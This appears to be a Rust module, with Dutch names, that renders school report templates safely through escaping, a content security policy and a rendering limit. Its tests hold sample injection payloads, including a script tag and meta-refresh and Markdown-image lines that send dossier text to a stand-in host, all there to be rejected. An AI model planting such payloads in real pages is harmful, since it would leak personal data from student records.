//! Templates: those that come with the program, a school's own in their place, filled in without access to anything.

use std::collections::BTreeMap;

use base64::Engine as _;
use minijinja::syntax::SyntaxConfig;
use minijinja::value::{Serde, ValueKind};
use minijinja::{AutoEscape, Environment, Error, ErrorKind, Output, State, UndefinedBehavior, Value};
use serde::Serialize;
use sha2::{Digest, Sha256};

use super::pagina;
use crate::render::text::safe;

/// Every template that comes with the program, by its file name.
pub const MEEGELEVERD: &[(&str, &str)] = &[
    ("stijl.css", include_str!("../../../templates/rapporten/stijl.css")),
    ("basis.html", include_str!("../../../templates/rapporten/basis.html")),
    ("delen.html", include_str!("../../../templates/rapporten/delen.html")),
    ("rapport.html", include_str!("../../../templates/rapporten/rapport.html")),
    ("rapport.md", include_str!("../../../templates/rapporten/rapport.md")),
    ("gesprek.html", include_str!("../../../templates/rapporten/gesprek.html")),
    ("toestemming.html", include_str!("../../../templates/rapporten/toestemming.html")),
    ("melding.html", include_str!("../../../templates/rapporten/melding.html")),
    ("participatie.html", include_str!("../../../templates/rapporten/participatie.html")),
    ("jaaroverzicht.html", include_str!("../../../templates/rapporten/jaaroverzicht.html")),
    ("jaaroverzicht.md", include_str!("../../../templates/rapporten/jaaroverzicht.md")),
];

/// What a template may do at most: enough for any dossier, and an endless loop ends.
const NO_LONGER_THAN: u64 = 8_000_000;

/// A template that cannot be used ("sjabloon"): which file, which line, what is wrong.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("sjabloon {bestand}{}: {wat}", regel.map(|nr| format!(", regel {nr}")).unwrap_or_default())]
pub struct SjabloonError {
    /// The file.
    pub bestand: String,
    /// The line.
    pub regel: Option<usize>,
    /// What is wrong.
    pub wat: String,
}

/// A school's own templates by file name; each stands in the place of the one with that name.
pub type Eigen = BTreeMap<String, String>;

/// Whether each of a school's own templates has a name that there is.
///
/// # Errors
/// One that would never be used.
pub fn check(eigen: &Eigen) -> Result<(), SjabloonError> {
    if let Some(unknown) = eigen.keys().find(|name| !MEEGELEVERD.iter().any(|(known, _)| known == name)) {
        let names: Vec<&str> = MEEGELEVERD.iter().map(|(name, _)| *name).collect();
        let wat = format!("er is geen sjabloon met deze naam; er zijn {}", names.join(", "));
        return Err(SjabloonError { bestand: safe(unknown), regel: None, wat });
    }
    Ok(())
}

/// Fills in a template.
///
/// # Errors
/// A template that is broken, unknown, or would let a page load something.
pub fn vul(naam: &str, eigen: &Eigen, gegevens: &impl Serialize) -> Result<String, SjabloonError> {
    check(eigen)?;
    let mut env = environment(eigen).map_err(|error| explain(&error))?;
    let data = Value::from(Serde(gegevens));
    let style =
        env.get_template("stijl.css").and_then(|template| template.render(&data)).map_err(|e| explain(&e))?;
    let style = style.replace("</", "<\\/");
    env.add_global("csp", Value::from_safe_string(policy(&style)));
    env.add_global("stijl", Value::from_safe_string(style));
    let text = env.get_template(naam).and_then(|template| template.render(&data)).map_err(|e| explain(&e))?;
    let refused = if is_html(naam) { pagina::on_page(&text) } else { pagina::in_markdown(&text) };
    match refused {
        Some(wat) => Err(SjabloonError { bestand: naam.to_owned(), regel: None, wat }),
        None => Ok(text),
    }
}

pub(super) const POLICY: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; ";

/// A page may use its own style and nothing else: no script, no picture, no font, no request, no form.
fn policy(style: &str) -> String {
    let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(style.as_bytes()));
    format!("{POLICY}style-src 'sha256-{hash}'; base-uri 'none'; form-action 'none'\">")
}

fn environment(eigen: &Eigen) -> Result<Environment<'static>, Error> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_auto_escape_callback(escape_of);
    env.set_formatter(format);
    env.set_syntax(SyntaxConfig::builder().trim_blocks(true).lstrip_blocks(true).build()?);
    env.set_fuel(Some(NO_LONGER_THAN));
    // What a dossier says is always escaped, in a school's own template too.
    env.remove_filter("safe");
    for (name, shipped) in MEEGELEVERD {
        let text = eigen.get(*name).map_or(*shipped, String::as_str);
        if text.contains("autoescape") {
            let what = "`autoescape` mag niet: wat in een dossier staat, blijft altijd tekst";
            return Err(Error::new(ErrorKind::SyntaxError, format!("{name}: {what}")));
        }
        env.add_template_owned(*name, text.to_owned())?;
    }
    Ok(env)
}

fn is_html(name: &str) -> bool {
    !std::path::Path::new(name).extension().is_some_and(|e| e == "md" || e == "css")
}

fn escape_of(name: &str) -> AutoEscape {
    match name.rsplit('.').next() {
        Some("md") => AutoEscape::Custom("markdown".into()),
        Some("css") => AutoEscape::Custom("css".into()),
        _ => AutoEscape::Html,
    }
}

fn format(out: &mut Output, state: &mut State, value: &Value) -> Result<(), Error> {
    let AutoEscape::Custom(language) = state.auto_escape() else {
        return minijinja::escape_formatter(out, state, value);
    };
    let text = match (language.as_ref(), value.as_str()) {
        ("markdown", Some(text)) if value.kind() == ValueKind::String && !value.is_safe() => markdown(text),
        ("markdown", _) => value.to_string(),
        // In a style only what cannot end it: numbers, letters, and what stands in a zaak number or day.
        _ => {
            let plain = |c: &char| c.is_ascii_alphanumeric() || matches!(c, '-' | ' ' | '.' | ':');
            value.to_string().chars().filter(plain).collect()
        }
    };
    out.write_str(&text).map_err(|_| Error::new(ErrorKind::WriteFailure, "vol"))
}

/// Text that stays text in Markdown: no heading, list, link, picture, table, formula or HTML; lines stay lines.
#[must_use]
pub fn markdown(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len() + text.len() / 16);
    for (nr, line) in text.lines().enumerate() {
        if nr > 0 {
            // A hard line break, and no blank line that would end the list that the text stands in.
            escaped.push_str("\\\n  ");
        }
        let line = line.trim_start();
        let starts = line.trim_start_matches(|c: char| c.is_ascii_digit());
        let digits = line.len() - starts.len();
        for (at, c) in line.char_indices() {
            let leads = at == 0 && matches!(c, '#' | '+' | '-' | '=' | '%');
            let numbers = at == digits
                && digits > 0
                && matches!(c, '.' | ')')
                && line[at + 1..].chars().next().is_none_or(char::is_whitespace);
            let always = matches!(
                c,
                '\\' | '`'
                    | '*'
                    | '_'
                    | '['
                    | ']'
                    | '<'
                    | '>'
                    | '&'
                    | '|'
                    | '~'
                    | '$'
                    | '{'
                    | '}'
                    | '@'
                    | '^'
            );
            // A bare address becomes a link by itself.
            let address = (c == ':' && line[at..].starts_with("://"))
                || (c == '.' && line[..at].to_lowercase().ends_with("www"));
            if leads || numbers || always || address {
                escaped.push('\\');
            }
            escaped.push(c);
        }
    }
    escaped
}

fn explain(error: &Error) -> SjabloonError {
    let mut deepest: &Error = error;
    // An included template's own error names its own file and line.
    while let Some(inner) = std::error::Error::source(deepest).and_then(|inner| inner.downcast_ref::<Error>())
    {
        deepest = inner;
    }
    let what = match deepest.kind() {
        ErrorKind::SyntaxError => "de opmaak klopt niet",
        ErrorKind::UndefinedError => "dit gegeven bestaat niet",
        ErrorKind::UnknownFilter => "dit filter bestaat niet",
        ErrorKind::UnknownTest => "deze toets bestaat niet",
        ErrorKind::UnknownFunction | ErrorKind::UnknownMethod => "deze functie bestaat niet",
        ErrorKind::UnknownBlock => "dit blok bestaat niet",
        ErrorKind::TemplateNotFound => "dit sjabloon bestaat niet",
        ErrorKind::OutOfFuel => "het sjabloon komt niet aan een eind",
        _ => "dit kan niet worden ingevuld",
    };
    let detail = deepest.detail().map(|detail| format!(" ({})", safe(detail))).unwrap_or_default();
    let bestand = deepest.name().map_or_else(|| "onbekend".to_owned(), safe);
    SjabloonError { bestand, regel: deepest.line(), wat: format!("{what}{detail}") }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_stays_text_in_markdown() {
        let cases = [
            ("# kop", "\\# kop"),
            ("1. een", "1\\. een"),
            ("12) een", "12\\) een"),
            ("    code", "code"),
            ("![x](http://kwaad.example)", "!\\[x\\](http\\://kwaad.example)"),
            ("<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"),
            ("a\n\n- b", "a\\\n  \\\n  \\- b"),
            ("| a | b |", "\\| a \\| b \\|"),
            ("=1+1", "\\=1+1"),
            ("kijk op www.kwaad.example", "kijk op www\\.kwaad.example"),
            ("10.30 uur", "10.30 uur"),
        ];
        for (text, expected) in cases {
            assert_eq!(markdown(text), expected, "{text}");
        }
    }

    fn own(name: &str, text: &str) -> Eigen {
        [(name.to_owned(), text.to_owned())].into()
    }

    fn data() -> serde_json::Value {
        serde_json::json!({ "tekst": "<script>", "zaak": "2026-7KQ3MX",
            "herkomst": { "commit": "0123456789abcdef", "stand": "22 november 2026" } })
    }

    #[test]
    fn a_broken_template_names_file_and_line() {
        let error = |eigen: &Eigen| vul("rapport.html", eigen, &data()).unwrap_err();
        let syntax = error(&own("rapport.html", "een\n{% if %}\n"));
        assert_eq!((syntax.bestand.as_str(), syntax.regel), ("rapport.html", Some(2)));
        let missing = error(&own("rapport.html", "een\n\n{{ bestaat.niet }}\n"));
        assert_eq!((missing.bestand.as_str(), missing.regel), ("rapport.html", Some(3)));
        assert!(missing.to_string().starts_with("sjabloon rapport.html, regel 3: dit gegeven bestaat niet"));
        let mut included = own("delen.html", "{% macro stuk() %}\n{{ 1|nergens }}\n{% endmacro %}");
        included.extend(own("rapport.html", "{% import 'delen.html' as delen %}{{ csp }}{{ delen.stuk() }}"));
        assert_eq!((error(&included).bestand.as_str(), error(&included).regel), ("delen.html", Some(2)));
        assert!(error(&own("rapprt.html", "")).wat.contains("geen sjabloon met deze naam"));
    }

    #[test]
    fn a_template_cannot_undo_the_escaping_nor_the_policy() {
        let fill = |text: &str| vul("rapport.html", &own("rapport.html", text), &data());
        assert!(fill("{{ tekst }}").unwrap_err().wat.contains("Content-Security-Policy"));
        assert!(fill("{{ csp }}{{ tekst|safe }}").unwrap_err().wat.contains("filter"));
        assert!(
            fill("{% autoescape false %}{{ tekst }}{% endautoescape %}")
                .unwrap_err()
                .wat
                .contains("autoescape")
        );
        assert!(fill("{{ csp }}{{ tekst }}").unwrap().ends_with("&lt;script&gt;"));
        assert!(fill("<img src='x'>{{ csp }}").unwrap_err().wat.contains("bovenaan"));
        let leaving =
            "{{ csp }}<meta http-equiv='refresh' content='0;url=https://kwaad.invalid/?{{ tekst }}'>";
        assert!(fill(leaving).unwrap_err().wat.contains("<meta> mag hier niet"));
        let picture = vul("rapport.md", &own("rapport.md", "![x](//kwaad.invalid/{{ tekst }})"), &data());
        assert!(picture.unwrap_err().wat.contains("mag hier niet"));
        let endless =
            "{{ csp }}{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}";
        assert!(fill(endless).unwrap_err().wat.contains("komt niet aan een eind"));
    }
}
